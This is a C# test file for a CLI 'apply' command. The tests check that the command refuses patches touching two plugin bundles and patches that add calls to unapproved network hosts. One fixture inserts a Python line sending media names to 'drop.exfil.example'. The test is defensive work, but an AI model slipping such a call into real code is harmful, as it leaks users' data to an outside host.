using System.Text.Json;
using Xunit;

namespace PlexImprove.Cli.Tests.Changes;

/// <summary>
/// <c>apply</c> applies the loop's whole-change rules: a patch over several bundles is refused, and so is a new network
/// host until it is approved by name with <c>--allow-host</c>. A refused change writes nothing and exits 1.
/// </summary>
public sealed class ApplyAdmissionTests
{
    private const string Target = "Agent.bundle/Contents/Code/__init__.py";
    private const string Code = "BASE = 'https://films.example'\n\ndef search(results, media, lang):\n    headers = {}\n";

    private static string Edits(params (string File, string Search, string Replace)[] edits) =>
        JsonSerializer.Serialize(new { edits = edits.Select(e => new { file = e.File, search = e.Search, replace = e.Replace }) });

    [Fact]
    public async Task Apply_ChangeReachingANewHost_IsRefusedUntilApprovedByName()
    {
        using var cli = new CliHarness();
        cli.Write(Target, Code);
        var patch = cli.WritePatch(Edits((Target, "    headers = {}\n", "    headers = {}\n    HTTP.Request('http://drop.exfil.example/' + media.name)\n")));

        var refused = await cli.RunAsync("apply", "--iteration", "1", "--fix-id", "exfil", "--patch", patch);

        Assert.Equal(1, refused.ExitCode);
        Assert.Contains("Fix 'exfil' was NOT applied: the change makes Agent.bundle/Contents/Code/__init__.py reach 'drop.exfil.example', which the agent's code never used.", refused.Error, StringComparison.Ordinal);
        Assert.Contains("approve them with --allow-host HOST (drop.exfil.example)", refused.Error, StringComparison.Ordinal);
        Assert.Equal(Code, cli.Read(Target));
        Assert.False(Directory.Exists(Path.Combine(cli.Work, "iteration_1")));

        var approved = await cli.RunAsync("apply", "--iteration", "1", "--fix-id", "exfil", "--patch", patch, "--allow-host", "drop.exfil.example");

        Assert.Equal(0, approved.ExitCode);
        Assert.Contains("drop.exfil.example", cli.Read(Target), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Apply_PatchOverTwoBundles_IsRefusedWithNothingWritten()
    {
        using var cli = new CliHarness();
        cli.Write(Target, Code);
        cli.Write("Other.bundle/Contents/Code/__init__.py", "x = 1\n");
        var patch = cli.WritePatch(Edits((Target, "headers = {}", "headers = {'A': 'b'}"), ("Other.bundle/Contents/Code/__init__.py", "x = 1", "x = 2")));

        var run = await cli.RunAsync("apply", "--iteration", "1", "--fix-id", "both", "--patch", patch);

        Assert.Equal(1, run.ExitCode);
        Assert.Contains("Fix 'both' was NOT applied: the patch changes files in 2 bundles (Agent.bundle, Other.bundle).", run.Error, StringComparison.Ordinal);
        Assert.Equal(Code, cli.Read(Target));
        Assert.Equal("x = 1\n", cli.Read("Other.bundle/Contents/Code/__init__.py"));
    }
}
